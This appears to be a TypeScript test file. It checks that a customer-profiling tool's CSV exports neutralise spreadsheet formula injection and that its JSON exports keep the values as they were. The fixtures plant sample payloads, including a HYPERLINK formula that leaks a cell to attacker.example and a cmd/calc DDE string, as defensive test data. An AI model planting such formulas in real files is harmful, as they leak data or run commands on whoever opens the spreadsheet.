/**
 * CSV cells a spreadsheet would run (loaders/publish/spreadsheet.ts): formulas planted in a
 * customer's id and in a profile name from the analysts' notes file reach every CSV the build
 * writes neutralised, and the JSON exports exactly as they were.
 */
import {spawnSync} from "node:child_process";
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {PROJECT_DIR} from "../../loaders/core/paths.ts";
import {raw, sql, valueList} from "../../loaders/core/sql.ts";
import {Store, withStore} from "../../loaders/core/store.ts";
import {runEngine} from "../../loaders/engine.ts";
import {writeExports} from "../../loaders/publish/exports.ts";
import {
  FORMULA_STARTS,
  neutralise,
  neutraliseRow,
  neutralisedQuery
} from "../../loaders/publish/spreadsheet.ts";
import {parseCsv} from "../unit/demo/read-csv.ts";

/** What an attacker would plant: a link that sends the row's first cell to another site. */
const LINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"open")';

/** Cells a spreadsheet reads as a formula, wherever they sit: none may be left in a CSV. */
function formulaCells(text: string): string[] {
  const cells = parseCsv(text).flat();
  // A number DuckDB wrote for a numeric column (-0.5) is a number to a spreadsheet too.
  return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)));
}

/** The same text as a CSV field. */
const field = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe("neutralise(text)", () => {
  it("puts a single quote before text a spreadsheet would run, and leaves other text as it is", () => {
    expect(FORMULA_STARTS).toEqual(["=", "+", "-", "@", "\t", "\r"]);
    expect(neutralise(LINK)).toBe(`'${LINK}`);
    for (const text of ["+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
      expect(neutralise(text)).toBe(`'${text}`);
    for (const text of ["", "App-first regulars", "'=1", " =1", "C0000007", "2024-03-31"])
      expect(neutralise(text)).toBe(text);
  });

  it("neutralises a row's text and keeps its numbers, booleans and nulls", () => {
    expect(neutraliseRow({a: "-x", b: -0.5, c: true, d: null, e: "ok"})).toEqual({
      a: "'-x",
      b: -0.5,
      c: true,
      d: null,
      e: "ok"
    });
  });
});

describe("neutralisedQuery(store, query)", () => {
  it("neutralises every column but numbers, booleans and dates (so -2.5 stays a number), in the rows' order", async () => {
    const store = await Store.open(":memory:");
    try {
      const query = raw(`SELECT * FROM (VALUES ('=1+1', -2.5, -3, false, DATE '2024-01-31'),
          ('@x', 1.0, 7, true, NULL), ('ok', NULL, NULL, NULL, NULL), (chr(9) || 'tab', 0.0, 0, NULL, NULL))
        t(label, amount, count, flag, day) ORDER BY amount DESC NULLS LAST`);
      const typed =
        raw(`SELECT -1.25::DECIMAL(9,2) AS price, -7::BIGINT AS big, INTERVAL '-1 day' AS span,
          ['-a']::VARCHAR[] AS list, 'x'::ENUM ('x', 'y') AS kind, '-x'::ENUM ('-x') AS sign`);
      expect(await store.all(await neutralisedQuery(store, typed))).toEqual([
        {price: -1.25, big: -7, span: "'-1 day", list: "[-a]", kind: "x", sign: "'-x"}
      ]);
      expect(await store.all(await neutralisedQuery(store, query))).toEqual([
        {label: "'@x", amount: 1, count: 7, flag: true, day: null},
        {label: "'\ttab", amount: 0, count: 0, flag: null, day: null},
        {label: "'=1+1", amount: -2.5, count: -3, flag: false, day: expect.anything()},
        {label: "ok", amount: null, count: null, flag: null, day: null}
      ]);
    } finally {
      store.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------
// A real build: a small demo with formulas planted in customers' ids (in every file that names
// them) and in a profile's name in the notes file, through the engine, the exports and the
// Sources page's table loader.

const dir = mkdtempSync(join(tmpdir(), "portrait-spreadsheet-"));
const store = join(dir, "store.duckdb");
/** The planted customer ids: one for each way a cell can start a formula. */
const PLANTED = {
  C0000007: LINK,
  C0000011: "+1+cmd|' /C calc'!A0",
  C0000013: "-2+3",
  C0000017: "@SUM(1+1)"
};
const NAME = '=HYPERLINK("http://attacker.example/","Loyal regulars")';
let exported: Record<string, string>;
let tables: string;

beforeAll(async () => {
  const demo = spawnSync(
    process.execPath,
    ["--import", "tsx", "scripts/demo-data.ts", "--customers", "400", "--out", join(dir, "data")],
    {cwd: PROJECT_DIR, encoding: "utf8"}
  );
  expect(demo.status, demo.stderr).toBe(0);
  for (const file of ["customers.csv", "orders.csv"]) {
    const path = join(dir, "data", file);
    let text = readFileSync(path, "utf8");
    for (const [id, planted] of Object.entries(PLANTED))
      text = text.replace(new RegExp(`(^|,)${id}(?=,)`, "gm"), `$1${field(planted)}`);
    writeFileSync(path, text);
  }
  writeFileSync(
    join(dir, "portrait.config.ts"),
    `export default {sources: {crm: {table: "customers", file: "data/customers.csv"}, shop: {table: "orders", file: "data/orders.csv"}}};\n`
  );
  writeFileSync(
    join(dir, "portrait.notes.json"),
    JSON.stringify({p1: {name: NAME, notes: ["-1 point per visit: =1+1 stays text in JSON."]}})
  );
  await runEngine({configPath: join(dir, "portrait.config.ts"), storePath: store, log: () => {}});
  // A previous build as the engine keeps it, in which the planted customers had another profile:
  // changes.csv then lists them (and every other customer as joined).
  const writable = await Store.open(store);
  try {
    await writable.run(
      sql`CREATE OR REPLACE TABLE previous_build AS SELECT DATE '2024-01-31' AS as_of`
    );
    await writable.run(
      sql`CREATE OR REPLACE TABLE previous_customers AS
        SELECT customer_id, 'p0' AS profile_id, NULL::BOOLEAN AS at_risk
        FROM customer_profiles WHERE customer_id IN (${valueList(Object.values(PLANTED))})`
    );
  } finally {
    writable.close();
  }
  const paths = await withStore(store, (s) =>
    writeExports(s, join(dir, "site"), {segments: ["age_by_channel", "country"]})
  );
  exported = Object.fromEntries(
    paths.map((path) => [
      path.slice(join(dir, "site", "exports").length + 1),
      readFileSync(path, "utf8")
    ])
  );
  const loader = spawnSync(process.execPath, ["--import", "tsx", "src/data/tables.csv.ts"], {
    cwd: PROJECT_DIR,
    encoding: "utf8",
    env: {...process.env, PORTRAIT_STORE: store}
  });
  expect(loader.status, loader.stderr).toBe(0);
  tables = loader.stdout;
}, 600_000);

afterAll(() => {
  rmSync(dir, {recursive: true, force: true});
});

describe("the CSV files of a build with formulas planted in its data and notes", () => {
  it("writes no cell a spreadsheet would run, in customers.csv and the Sources page's tables.csv", () => {
    expect(Object.keys(exported).sort()).toEqual([
      "changes.csv",
      "customers.csv",
      "customers.json",
      "profiles.json"
    ]);
    expect(formulaCells(exported["customers.csv"])).toEqual([]);
    expect(formulaCells(exported["changes.csv"])).toEqual([]);
    const moved = parseCsv(exported["changes.csv"]).filter((r) => r[1] === "p0");
    expect(moved.map((r) => r[0]).sort()).toEqual(
      Object.values(PLANTED)
        .map((id) => `'${id}`)
        .sort()
    );
    expect(formulaCells(tables)).toEqual([]);
    expect(parseCsv(tables)[0]).toEqual([
      "table",
      "label",
      "rows",
      "customers",
      "first",
      "last",
      "quarantined"
    ]);
  });

  it("keeps each planted value, behind a single quote, in its customer's row and under its profile's name", () => {
    const rows = parseCsv(exported["customers.csv"]);
    const [header] = rows;
    const column = (name: string) => header.indexOf(name);
    const ids = rows.map((r) => r[column("customer_id")]);
    for (const planted of Object.values(PLANTED)) expect(ids).toContain(`'${planted}`);
    const named = rows.filter((r) => r[column("profile_name")] === `'${NAME}`);
    expect(named.length).toBeGreaterThan(0);
    expect(named.every((r) => r[column("profile_id")] === "p1")).toBe(true);
  });

  it("writes the JSON exports exactly: the planted ids and name as they were", () => {
    const {customers} = JSON.parse(exported["customers.json"]);
    const ids = customers.map((c: {customer_id: string}) => c.customer_id);
    for (const planted of Object.values(PLANTED)) expect(ids).toContain(planted);
    expect(customers.find((c: {profile_id: string}) => c.profile_id === "p1").profile_name).toBe(
      NAME
    );
    const profiles = JSON.parse(exported["profiles.json"]).profiles;
    expect(profiles.find((p: {id: string}) => p.id === "p1")).toMatchObject({
      name: NAME,
      notes: ["-1 point per visit: =1+1 stays text in JSON."]
    });
  });
});
